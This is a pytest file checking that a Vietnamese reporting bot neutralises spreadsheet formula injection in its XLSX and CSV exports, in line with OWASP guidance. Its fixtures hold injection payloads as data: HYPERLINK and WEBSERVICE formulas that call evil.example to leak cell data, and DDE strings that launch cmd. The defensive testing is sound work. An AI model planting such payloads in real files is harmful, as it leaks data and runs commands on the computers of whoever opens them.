"""Text people typed never becomes a live formula in a workbook or a CSV file (OWASP)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
import yaml
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy.engine import Engine
from sqlmodel import Session, select

from bot.reports import export_rows, summary_workbook, write_csv, write_xlsx
from bot.setup.template import setup_workbook, workbook_to_yaml
from bot.sheets import csv_field
from bot.storage import session_scope
from bot.storage.models import Person
from tests.reports.test_reports import (
    DAK_CAM,
    KON_TUM,
    import_setup,
    period_id,
    return_latest,
    snapshot_of,
    submit,
)

LINK = '=HYPERLINK("http://evil.example/?"&A2,"Xem minh chứng")'
AT_SIGN = "@SUM(A1:A9)"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3"
ERROR_CODE = "#N/A"
UNIT_NAME = "=1+1"
REASON = '=WEBSERVICE("http://evil.example/")'
TELEGRAM_NAME = "=cmd|' /C notepad'!A0"
CONTROL = "Vượt\x07 thu\x1b"  # control characters openpyxl refuses in a cell


@pytest.fixture
def typed(engine: Engine, example_yaml: str) -> Engine:
    """Units named, answers, explanations, a return reason and a Telegram name like formulas."""
    tree = yaml.safe_load(example_yaml)
    tree["clusters"][0]["units"][1]["name"] = UNIT_NAME  # sa-thay
    import_setup(engine, yaml.safe_dump(tree, allow_unicode=True))
    answers = [*KON_TUM[:8], LINK, AT_SIGN, None]
    submit(engine, "kon-tum", answers, explanations={"thu-ngan-sach": PLUS})
    submit(engine, "sa-thay", [*DAK_CAM[:8], ERROR_CODE, MINUS, None])
    submit(engine, "dak-cam", [*DAK_CAM[:8], CONTROL, None, None])
    return_latest(engine, "sa-thay", REASON)
    with session_scope(engine) as session:
        for person in session.exec(select(Person)).all():
            person.full_name = TELEGRAM_NAME
    return engine


def texts_and_numbers(sheet: Worksheet) -> tuple[dict[Any, str], list[Any]]:
    """Every cell's value by type: text cells (value -> data type) and number cells."""
    found: dict[Any, str] = {}
    numbers = []
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                found[cell.value] = str(cell.data_type)
            elif isinstance(cell.value, int | float) and not isinstance(cell.value, bool):
                numbers.append(cell.value)
    return found, numbers


def test_the_xlsx_export_writes_typed_text_as_text_and_numbers_as_numbers(typed: Engine) -> None:
    with Session(typed) as session:
        rows = list(export_rows(session, period_id=period_id(typed)))
    out = io.BytesIO()
    write_xlsx(rows, out, locale="vi")
    sheet = load_workbook(io.BytesIO(out.getvalue()))["Số liệu"]
    found, numbers = texts_and_numbers(sheet)
    for text in (LINK, AT_SIGN, MINUS, ERROR_CODE, UNIT_NAME, "Vượt thu"):
        assert found.get(text) == "s", text
    assert not [value for value, kind in found.items() if kind != "s"]
    assert 450 in numbers and 104.5 in numbers  # figures stay numbers


def test_the_csv_export_neutralises_formula_like_text_and_keeps_numbers(typed: Engine) -> None:
    with Session(typed) as session:
        rows = export_rows(session, period_id=period_id(typed))
        out = io.BytesIO()
        write_csv(rows, out)
    records = list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline="")))
    fields = [field for record in records for field in record.values()]
    assert "'" + LINK in fields and "'" + AT_SIGN in fields and "'" + MINUS in fields
    assert "'" + UNIT_NAME in {record["unit_name"] for record in records}
    assert not [field for field in fields if field.startswith(("=", "+", "-", "@", "\t", "\r"))]
    budget = {r["unit_code"]: r["value"] for r in records if r["indicator_code"] == "thu-ngan-sach"}
    assert budget == {"kon-tum": "450", "sa-thay": "60.25", "dak-cam": "60.25"}


def test_the_summary_workbook_writes_every_typed_text_as_text(typed: Engine) -> None:
    workbook = load_workbook(io.BytesIO(summary_workbook(snapshot_of(typed), locale="vi")))
    kinds: dict[Any, str] = {}
    for sheet in workbook.worksheets:
        found, _numbers = texts_and_numbers(sheet)
        kinds |= found
    for text in (LINK, AT_SIGN, PLUS, MINUS, ERROR_CODE, UNIT_NAME, REASON, TELEGRAM_NAME):
        assert kinds.get(text) == "s", text
    assert "Vượt thu" in kinds  # control characters dropped, the rest kept
    assert not [value for value, kind in kinds.items() if kind != "s"]


def test_the_set_up_template_writes_names_as_text_and_reads_them_back_unchanged(
    example_yaml: str,
) -> None:
    tree = yaml.safe_load(example_yaml)
    tree["clusters"][0]["name"] = LINK
    tree["clusters"][0]["units"][0]["name"] = UNIT_NAME
    tree["pledges"][0]["indicators"][0]["name"] = AT_SIGN
    content = setup_workbook(tree, locale="vi")
    kinds: dict[Any, str] = {}
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        kinds |= texts_and_numbers(sheet)[0]
    assert (kinds.get(LINK), kinds.get(UNIT_NAME), kinds.get(AT_SIGN)) == ("s", "s", "s")
    back = yaml.safe_load(workbook_to_yaml(content, locale="vi"))
    assert back["clusters"][0]["name"] == LINK
    assert back["clusters"][0]["units"][0]["name"] == UNIT_NAME
    assert back["pledges"][0]["indicators"][0]["name"] == AT_SIGN


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912", "'+84 912"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-5,2 tỷ đồng", "'-5,2 tỷ đồng"),
        ("-25.8", "-25.8"),
        ("-1.250,5", "-1.250,5"),
        ("+3", "+3"),
        ("Vượt thu", "Vượt thu"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_csv_field_is_neutralised_only_when_it_could_start_a_formula(
    text: str, written: str
) -> None:
    assert csv_field(text) == written
